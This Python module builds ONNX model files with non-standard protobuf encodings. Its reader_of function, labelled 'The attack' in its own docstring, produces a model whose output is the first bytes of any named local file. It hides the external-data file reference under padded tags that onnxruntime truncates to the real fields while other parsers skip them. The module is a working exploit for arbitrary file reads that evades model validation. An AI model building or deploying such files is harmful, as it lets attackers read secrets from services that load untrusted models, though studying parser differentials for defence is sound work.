"""Writing protobuf messages in spellings that no encoder uses and every lenient parser takes."""

import onnx
from onnx import TensorProto, helper


def varint(number: int, *, width: int = 0) -> bytes:
    """A number in base 128, padded to so many bytes."""
    digits = bytearray()
    while number or not digits:
        digits.append(number & 0x7F)
        number >>= 7
    digits += bytes(max(0, width - len(digits)))
    return bytes(digit | 0x80 for digit in digits[:-1]) + bytes(digits[-1:])


def chunk(number: int, data: bytes) -> bytes:
    """A field that holds bytes."""
    return varint(number << 3 | 2) + varint(len(data)) + data


def hiding_tag(number: int, kind: int) -> bytes:
    """A tag of five bytes: a parser that cuts tags to 32 bits reads `number`, others do not."""
    return varint((number << 3 | kind) + (1 << 32), width=5)


def padded_tag(number: int, kind: int) -> bytes:
    """The tag in more bytes than it needs."""
    return varint(number << 3 | kind, width=5)


def reader_of(location: str, length: int, *, hidden: bool = True) -> bytes:
    """An ONNX model whose answer is the first `length` bytes of a file; its reference to the file is hidden.

    The attack: `external_data` and `data_location` under tags that onnxruntime cuts to the real ones.
    """
    tensor = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[length])
    output = helper.make_tensor_value_info("y", TensorProto.UINT8, [length])
    relay = helper.make_node("Identity", ["w"], ["y"])
    graph = helper.make_graph([relay], "g", [], [output])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    pairs = [("location", location), ("offset", "0"), ("length", str(length))]
    entries = [onnx.StringStringEntryProto(key=key, value=value).SerializeToString() for key, value in pairs]
    data_tag, place_tag = (
        (hiding_tag(13, 2), hiding_tag(14, 0)) if hidden else (varint(13 << 3 | 2), varint(14 << 3))
    )
    spelt = tensor.SerializeToString()
    for entry in entries:
        spelt += data_tag + varint(len(entry)) + entry
    spelt += place_tag + b"\x01"
    inside = model.graph.SerializeToString() + chunk(5, spelt)
    model.ClearField("graph")
    return bytes(model.SerializeToString() + chunk(7, inside))
